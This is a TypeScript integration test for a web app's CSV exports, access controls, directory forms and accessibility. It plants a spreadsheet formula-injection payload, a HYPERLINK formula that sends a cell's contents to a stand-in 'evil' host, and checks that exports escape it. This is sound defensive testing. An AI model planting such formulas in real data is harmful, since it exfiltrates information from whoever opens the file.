/// <reference lib="dom" />
/**
 * The coordinator's workspace against the real stack (Temporal dev server, FerretDB, an SMTP sink,
 * the worker and the web app over HTTP): every CSV export of a collaborative downloaded by its
 * coordinator and parsed with csv-parse (a site and a person named `=…` come out as `'=…`), the
 * metrics ones refused to faculty, all refused to a PI and to nobody signed in; the network
 * directory's forms (add, edit, deactivate, reactivate, upload a file with a bad row then a good
 * one) posted with their CSRF token and the redirect followed, refused to a non-administrator;
 * and the directory's pages in headless Chromium at 1280 and 360 px: axe-clean, no sideways scroll.
 */
import type { TestWorkflowEnvironment } from '@temporalio/testing';
import { parse } from 'csv-parse/sync';
import type { Page } from 'playwright-core';
import * as ops from '../../app';
import { createLifecycleRecords } from '../../store/lifecycle';
import { recordSubmission } from '../../store/metrics';
import { listSites, upsertSites } from '../../store/sites';
import { newSession, SESSION_COOKIE } from '../../web/auth';
import { compressedConfig } from '../helpers/configs';
import { devServerEnv, harness, type Harness } from '../helpers/env';
import type { Reply } from '../helpers/http';
import { applicationFor, exampleSites } from '../helpers/people';
import { waitFor } from '../helpers/wait';
import { followRedirect, serveWeb, webAddress, type ServedWeb } from '../helpers/web';
import { axeViolations, launchChromium } from '../helpers/browser';
import { launchRecorded, signInEach } from '../helpers/launched';

const KEY = 'workspace-test-signing-key-'.padEnd(48, 'w');
const ADMIN = 'admin@network.example.org';
const COORD = 'coord.ws@network.example.org';
const FACULTY = 'faculty.ws@faculty.example.org';
const PI = 'pi@formula.example.org';
const SLUG = 'ws-exports';
const EVIL_SITE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const EVIL_PERSON = '=2+5 Mallory';
const BOM = [0xef, 0xbb, 0xbf];

describe('the workspace: CSV exports and the network directory (real stack)', () => {
  let env: TestWorkflowEnvironment;
  let h: Harness;
  let web: ServedWeb;
  let base: string;
  const session: Record<string, string> = {};
  const csrf: Record<string, string> = {};
  const cookie = (who: string) => ({ [SESSION_COOKIE]: session[who]! });

  /** A download as the browser takes it: status, headers and the bytes (fetch's text() drops a BOM). */
  async function download(url: string, who?: string) {
    const res = await fetch(base + url, {
      redirect: 'manual',
      headers: who ? { cookie: `${SESSION_COOKIE}=${session[who]}` } : {},
    });
    const bytes = Buffer.from(await res.arrayBuffer());
    return { status: res.status, headers: res.headers, bytes };
  }

  /** Posts a directory form as the administrator's browser does, with the session's CSRF token. */
  const post = (url: string, fields: Record<string, string>, who = ADMIN) =>
    web.call({
      method: 'POST',
      url,
      cookie: cookie(who),
      form: true,
      payload: { _csrf: csrf[who]!, ...fields },
    });

  /** Uploads a file through the directory's multipart form. */
  async function upload(filename: string, text: string, who = ADMIN): Promise<Reply> {
    const form = new FormData();
    form.append('_csrf', csrf[who]!);
    form.append('file', new Blob([text], { type: 'text/csv' }), filename);
    const res = await fetch(`${base}/directory/import`, {
      method: 'POST',
      body: form,
      redirect: 'manual',
      headers: { cookie: `${SESSION_COOKIE}=${session[who]}` },
    });
    const raw = res.headers.get('set-cookie') ?? '';
    const [pair] = raw.split(';');
    const eq = pair!.indexOf('=');
    return {
      statusCode: res.status,
      headers: res.headers,
      body: await res.text(),
      json: () => undefined,
      setCookie:
        eq > 0 ? { name: pair!.slice(0, eq), value: pair!.slice(eq + 1), attributes: [] } : undefined,
    };
  }

  beforeAll(async () => {
    const addr = await webAddress();
    base = addr.baseUrl;
    env = await devServerEnv();
    h = await harness(env, 'web-workspace', { links: { baseUrl: base, key: KEY, ttlDays: 30 } });
    h.startWorker();
    await upsertSites(h.db, [
      ...exampleSites,
      { siteId: 'formula', name: EVIL_SITE, piName: 'Dr. Formula', piEmail: PI, active: true },
    ]);
    const c = compressedConfig(SLUG, Date.now(), {
      close: 30,
      decisions: 40,
      prework: 41,
      ls: 45,
      end: 45 * 24 * 60, // reporting periods: this month and the next
    });
    c.sites = ['bayview', 'formula'];
    c.coordinators = [{ name: 'Coordinator', email: COORD }];
    c.faculty = [{ name: 'Dr. Faculty', email: FACULTY }];
    await launchRecorded(env, h, c);
    web = await serveWeb(env, h, {
      key: KEY,
      baseUrl: base,
      port: addr.port,
      admins: [ADMIN],
      rateLimits: { signin: 1000, links: 1000 },
    });
    await signInEach(web, h, { key: KEY, baseUrl: base }, [ADMIN, COORD, FACULTY], { session, csrf });
    // A PI holds no role: a session of theirs (were they to have one) is a signed-in nobody.
    session[PI] = newSession(KEY, PI, Date.now());
  }, 180_000);
  afterAll(async () => {
    await web?.app.close();
    await h?.close();
    await env?.teardown();
  });

  it('downloads each CSV export for the coordinator, parsed back with every formula escaped; refuses others', async () => {
    // Applications go through the workflow (the apply Update, as the PI's form sends it), once it has announced.
    const evilApp = applicationFor('formula', PI, {});
    evilApp.coreTeam.members[2]!.name = EVIL_PERSON;
    for (const a of [applicationFor('bayview', 'ana.ruiz@bayview.example.org'), evilApp])
      await waitFor(`the application of ${a.siteId}`, () => ops.submitApplication(env.client, SLUG, a));
    await waitFor('both applications recorded', async () =>
      (await ops.applicationsOf(h.db, SLUG)).length === 2 ? true : undefined,
    );
    // What later phases write (decisions, teams, pre-work, attendance, metrics), written with the
    // store's own writers (the worker's activities call the same), rather than waiting out the schedule.
    const rec = createLifecycleRecords(h.db);
    await rec.recordDecision(SLUG, { siteId: 'bayview', decision: 'accept', notes: 'Welcome', by: FACULTY });
    await rec.recordDecision(SLUG, {
      siteId: 'formula',
      decision: 'waitlist',
      notes: '@risk, "quoted"',
      by: FACULTY,
    });
    await rec.recordTeam(SLUG, 'bayview', 'accepted');
    await rec.recordTeam(SLUG, 'formula', 'accepted', { promoted: true });
    await rec.recordPrework(SLUG, 'bayview', 'checklist', 'leader@bayview.example.org');
    await rec.recordAttendance(SLUG, 'formula', {
      session: 0,
      attendees: [
        { email: evilApp.coreTeam.members[2]!.email, present: true },
        { email: evilApp.coreTeam.members[0]!.email, present: false },
      ],
      by: FACULTY,
    });
    const doc = (await ops.findCollaborative(h.db, SLUG))!;
    const period = ops.currentSchedule(doc).periods[0]!.id;
    await recordSubmission(
      h.db,
      SLUG,
      'formula',
      {
        period,
        by: evilApp.coreTeam.dataManager.email,
        values: { children_served: 12, fidelity: 85.5, cds_used: true, notes: '-1 then =1' },
      },
      { submittedAt: new Date().toISOString(), late: false, amendments: 0 },
    );

    // The coordinator's page links each download; faculty's only those they may take.
    const page = await web.call({ url: `/c/${SLUG}`, cookie: cookie(COORD) });
    for (const k of ops.EXPORT_KINDS) expect(page.body).toContain(`href="/c/${SLUG}/exports/${k}.csv"`);
    expect(page.body).toContain('Download applications (CSV)');
    const facultyPage = await web.call({ url: `/c/${SLUG}`, cookie: cookie(FACULTY) });
    expect(facultyPage.body).toContain(`/c/${SLUG}/exports/attendance.csv`);
    expect(facultyPage.body).not.toContain(`/c/${SLUG}/exports/metrics.csv`);

    const files: Record<string, Record<string, string>[]> = {};
    for (const kind of ops.EXPORT_KINDS) {
      const r = await download(`/c/${SLUG}/exports/${kind}.csv`, COORD);
      expect(`${kind}: ${r.status}`).toBe(`${kind}: 200`);
      expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(r.headers.get('content-disposition')).toBe(`attachment; filename="${SLUG}-${kind}.csv"`);
      expect([...r.bytes.subarray(0, 3)]).toEqual(BOM);
      files[kind] = parse(r.bytes, { bom: true, columns: true }) as Record<string, string>[];
      // No cell of any export begins as a formula would.
      for (const row of files[kind]!)
        for (const v of Object.values(row)) expect(v).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
    }
    const bySite = (kind: string, siteId: string) => files[kind]!.filter((r) => r.siteId === siteId);
    expect(files.applications!.map((r) => r.siteId)).toEqual(['bayview', 'formula']);
    const evil = bySite('applications', 'formula')[0]!;
    expect(evil.site).toBe(`'${EVIL_SITE}`);
    expect(evil.coreTeam).toContain(EVIL_PERSON); // inside the list of members, not at the cell's start
    expect(evil.submittedBy).toBe(PI);
    expect(evil.commitCoreDataSet).toBe('yes');
    expect(evil.decision).toBe('waitlist');
    expect(bySite('decisions', 'formula')[0]).toMatchObject({
      site: `'${EVIL_SITE}`,
      decision: 'waitlist',
      by: FACULTY,
      notes: `'@risk, "quoted"`,
    });
    expect(bySite('decisions', 'bayview')[0]).toMatchObject({ decision: 'accept', notes: 'Welcome' });
    expect(files.teams!.map((r) => [r.siteId, r.status, r.promotedFromWaitlist, r.preworkDone])).toEqual([
      ['bayview', 'accepted', 'no', 'checklist'],
      ['formula', 'accepted', 'yes', ''],
    ]);
    expect(files.attendance!.map((r) => [r.siteId, r.session, r.person, r.present])).toEqual(
      expect.arrayContaining([
        ['formula', '1', `'${EVIL_PERSON}`, 'yes'],
        ['formula', '1', 'Leader of formula', 'no'],
      ]),
    );
    expect(files.attendance).toHaveLength(2);
    expect(bySite('metrics', 'formula')[0]).toMatchObject({
      site: `'${EVIL_SITE}`,
      period,
      children_served: '12',
      fidelity: '85.5',
      cds_used: 'yes',
      notes: "'-1 then =1",
      late: 'no',
    });
    const periods = ops.currentSchedule(doc).periods.map((p) => p.id);
    expect(periods.length).toBeGreaterThan(0);
    expect(files.compliance).toHaveLength(2 * periods.length);
    expect(bySite('compliance', 'formula').map((r) => [r.site, r.period])).toEqual(
      periods.map((p) => [`'${EVIL_SITE}`, p]),
    );
    for (const r of files.compliance!)
      expect(['on-time', 'late', 'missing', 'not-yet-due']).toContain(r.status);

    // Faculty: the records they see on the page, not the metrics; a PI: nothing; nobody signed in: the sign-in page.
    const refused: string[] = [];
    for (const kind of ops.EXPORT_KINDS) {
      const f = await download(`/c/${SLUG}/exports/${kind}.csv`, FACULTY);
      expect(`${kind}: ${f.status}`).toBe(`${kind}: ${['compliance', 'metrics'].includes(kind) ? 403 : 200}`);
      const pi = await download(`/c/${SLUG}/exports/${kind}.csv`, PI);
      expect(pi.status).toBe(403);
      expect(pi.bytes.toString()).not.toContain('Mallory');
      expect(pi.bytes.toString()).not.toContain('HYPERLINK');
      const anon = await download(`/c/${SLUG}/exports/${kind}.csv`);
      expect(anon.status).toBe(302);
      expect(anon.headers.get('location')).toBe('/signin');
      refused.push(kind);
    }
    expect((await download(`/c/${SLUG}/exports/nothing.csv`, COORD)).status).toBe(404);
    expect((await download(`/c/nowhere/exports/teams.csv`, COORD)).status).toBe(403);
    console.log(
      `[web] exports: ${ops.EXPORT_KINDS.map((k) => `${k} ${files[k]!.length} rows`).join(', ')}; ` +
        `formula cells escaped; faculty 403 on compliance and metrics; PI 403 and anonymous → /signin on all ${refused.length}`,
    );
  });

  it('keeps the network directory through its forms: add, edit, deactivate, reactivate, upload (a bad row, then good)', async () => {
    // Not an administrator: refused, and nothing changes.
    expect((await web.call({ url: '/directory', cookie: cookie(COORD) })).statusCode).toBe(403);
    expect(
      (
        await post(
          '/directory/sites',
          { siteId: 'sneaky', name: 'S', piName: 'P', piEmail: 'p@x.org' },
          COORD,
        )
      ).statusCode,
    ).toBe(403);
    expect(
      (await upload('s.csv', 'siteId,name,piName,piEmail\nsneaky,S,P,p@x.org\n', COORD)).statusCode,
    ).toBe(403);
    expect((await web.call({ url: '/directory' })).headers.get('location')).toBe('/signin');
    // Without the form's token: refused.
    const noToken = await web.call({
      method: 'POST',
      url: '/directory/sites',
      cookie: cookie(ADMIN),
      form: true,
      payload: { siteId: 'sneaky', name: 'S', piName: 'P', piEmail: 'p@x.org' },
    });
    expect(noToken.statusCode).toBe(403);
    expect((await listSites(h.db)).some((s) => s.siteId === 'sneaky')).toBe(false);

    const list = await web.call({ url: '/directory', cookie: cookie(ADMIN) });
    expect(list.statusCode).toBe(200);
    expect(list.body).toContain('data-site="bayview"');
    const searched = await web.call({ url: '/directory?q=BAYVIEW&show=active', cookie: cookie(ADMIN) });
    expect(searched.body).toContain('data-site="bayview"');
    expect(searched.body).not.toContain('data-site="harbor"');

    // Add: bad first (the problems beside their fields, what was typed kept), then good.
    const bad = await followRedirect(
      web.call,
      await post('/directory/sites', {
        siteId: 'oak tree',
        name: 'Oak Tree Clinic',
        piName: '',
        piEmail: 'not-an-email',
      }),
      cookie(ADMIN),
    );
    expect(bad.body).toContain('id="error-summary"');
    expect(bad.body).toMatch(/id="f-piEmail-error"[\s\S]*not a valid email address/);
    expect(bad.body).toContain('id="f-siteId-error"');
    expect(bad.body).toContain('id="f-piName-error"');
    expect(bad.body).toContain('value="Oak Tree Clinic"');
    expect(bad.body).toContain('value="not-an-email"');
    const added = await followRedirect(
      web.call,
      await post('/directory/sites', {
        siteId: 'oak-tree',
        name: 'Oak Tree Clinic',
        piName: 'Dr. Oak',
        piEmail: 'oak@oak.example.org',
        timeZone: 'America/Denver',
      }),
      cookie(ADMIN),
    );
    expect(added.body).toContain('Added Oak Tree Clinic (oak-tree).');
    expect(added.body).toMatch(/data-site="oak-tree"[\s\S]*?admin@network\.example\.org/);
    const taken = await followRedirect(
      web.call,
      await post('/directory/sites', {
        siteId: 'oak-tree',
        name: 'Again',
        piName: 'Dr. Oak',
        piEmail: 'oak@oak.example.org',
      }),
      cookie(ADMIN),
    );
    expect(taken.body).toMatch(/id="f-siteId-error"[\s\S]*in the directory already/);

    // Edit: a bad address first (back on the site's page, values kept), then a new name and PI.
    const badEdit = await followRedirect(
      web.call,
      await post('/directory/sites/oak-tree', {
        name: 'Oak Tree Centre',
        piName: 'Dr. Oak',
        piEmail: 'nope',
        timeZone: '',
      }),
      cookie(ADMIN),
    );
    expect(badEdit.body).toMatch(/id="f-piEmail-error"[\s\S]*not a valid email address/);
    expect(badEdit.body).toContain('value="Oak Tree Centre"');
    const edited = await followRedirect(
      web.call,
      await post('/directory/sites/oak-tree', {
        name: 'Oak Tree Centre',
        piName: 'Dr. Olive Oak',
        piEmail: 'olive@oak.example.org',
        timeZone: '',
      }),
      cookie(ADMIN),
    );
    expect(edited.body).toContain('Saved Oak Tree Centre (oak-tree).');
    const [oak] = await ops.getSites(h.db, ['oak-tree']);
    expect(oak).toMatchObject({
      name: 'Oak Tree Centre',
      piName: 'Dr. Olive Oak',
      piEmail: 'olive@oak.example.org',
      updatedBy: ADMIN,
    });
    expect(oak!.timeZone).toBeUndefined(); // a blank zone removes it
    expect(Date.now() - new Date(oak!.updatedAt).getTime()).toBeLessThan(120_000);

    // Deactivate, then reactivate.
    const off = await followRedirect(
      web.call,
      await post('/directory/sites/oak-tree/active', { active: 'no' }),
      cookie(ADMIN),
    );
    expect(off.body).toContain('Deactivated Oak Tree Centre (oak-tree).');
    expect(off.body).toContain('data-testid="active-oak-tree">no<');
    expect((await listSites(h.db, { activeOnly: true })).some((s) => s.siteId === 'oak-tree')).toBe(false);
    const inactive = await web.call({ url: '/directory?show=inactive', cookie: cookie(ADMIN) });
    expect(inactive.body).toContain('data-site="oak-tree"');
    expect(inactive.body).not.toContain('data-site="bayview"');
    const on = await followRedirect(
      web.call,
      await post('/directory/sites/oak-tree/active', { active: 'yes' }),
      cookie(ADMIN),
    );
    expect(on.body).toContain('data-testid="active-oak-tree">yes<');

    // Upload: one bad row, and nothing of the file is imported; the row's problem beside the upload.
    const before = (await listSites(h.db)).length;
    const badFile = [
      'siteId,name,piName,piEmail,timeZone,active',
      'pine,Pine Clinic,Dr. Pine,pine@pine.example.org,America/Chicago,true',
      'maple,Maple Clinic,Dr. Maple,not-an-address,,true',
      '',
    ].join('\r\n');
    const refused = await followRedirect(web.call, await upload('sites.csv', badFile), cookie(ADMIN));
    expect(refused.body).toContain('nothing was imported');
    expect(refused.body).toMatch(
      /data-testid="import-problems"[\s\S]*Line 3, PI email: not a valid email address/,
    );
    expect(refused.body).toContain('aria-describedby="f-file-error"');
    expect((await listSites(h.db)).length).toBe(before);
    expect((await ops.getSites(h.db, ['pine'])).length).toBe(0);
    // The good file (saved by Excel: with a BOM), an update of oak-tree among its rows.
    const goodFile = `\uFEFF${[
      'siteId,name,piName,piEmail,timeZone,active',
      'pine,Pine Clinic,Dr. Pine,pine@pine.example.org,America/Chicago,true',
      'maple,Clínica Maple,Dr. Maple,maple@maple.example.org,,false',
      'oak-tree,Oak Tree Centre,Dr. Olive Oak,olive@oak.example.org,America/Denver,true',
    ].join('\r\n')}\r\n`;
    const imported = await followRedirect(web.call, await upload('sites.csv', goodFile), cookie(ADMIN));
    expect(imported.body).toContain('Imported 3 sites from sites.csv: 2 new, 1 updated.');
    expect((await listSites(h.db)).length).toBe(before + 2);
    const [maple] = await ops.getSites(h.db, ['maple']);
    expect(maple).toMatchObject({ name: 'Clínica Maple', active: false, updatedBy: ADMIN });
    expect(imported.body).toContain('Clínica Maple');
    console.log(
      `[web] directory: add (bad, then good), edit (bad, then good), deactivate, reactivate, upload (1 bad row of 2: 0 imported; then 3 rows: 2 new, 1 updated); non-admin 403`,
    );
  });

  it('shows the directory’s pages axe-clean at 1280 and 360 px, with no sideways scroll (headless Chromium)', async () => {
    const browser = await launchChromium();
    const findings: string[] = [];
    try {
      const context = await browser.newContext();
      await context.addCookies([{ name: SESSION_COOKIE, value: session[ADMIN]!, url: base }]);
      const page = await context.newPage();
      const check = async (p: Page, name: string, within?: string) => {
        for (const width of [1280, 360]) {
          await p.setViewportSize({ width, height: 900 });
          const violations = await axeViolations(p);
          for (const v of violations) findings.push(`${name} @${width}: ${v}`);
          // The page (or, on a page of others' sections, the section of ours) fits the width.
          const wide = await p.evaluate((sel) => {
            if (!sel) return document.scrollingElement!.scrollWidth - window.innerWidth;
            return Math.ceil(document.querySelector(sel)!.getBoundingClientRect().right - window.innerWidth);
          }, within ?? '');
          if (wide > 0) findings.push(`${name} @${width}: ${wide} px too wide`);
        }
      };
      await page.goto(`${base}/directory`);
      await check(page, 'directory');
      // The upload form from the browser: a bad file, its problems beside the field.
      await page.setInputFiles('#f-file', {
        name: 'bad.csv',
        mimeType: 'text/csv',
        buffer: Buffer.from('siteId,name,piName,piEmail\nbirch,Birch,,birch@example.org\n'),
      });
      await Promise.all([
        page.waitForURL(/\/directory/),
        page.getByRole('button', { name: 'Upload and import' }).click(),
      ]);
      await page.locator('[data-testid="import-problems"]').waitFor();
      expect(await page.textContent('[data-testid="import-problems"]')).toMatch(/Line 2, PI name/);
      await check(page, 'directory-upload-error');
      await page.fill('#f-siteId', 'x y');
      await Promise.all([
        page.waitForURL(/\/directory/),
        page.getByRole('button', { name: 'Add the site' }).click(),
      ]);
      await page.locator('#error-summary').waitFor();
      await check(page, 'directory-add-error');
      await page.goto(`${base}/directory/sites/bayview`);
      await check(page, 'site');
      await page.goto(`${base}/c/${SLUG}`);
      await page.locator('#downloads').waitFor();
      await check(page, 'collaborative-downloads', '#downloads');
    } finally {
      await browser.close();
    }
    expect(findings).toEqual([]);
  });
});
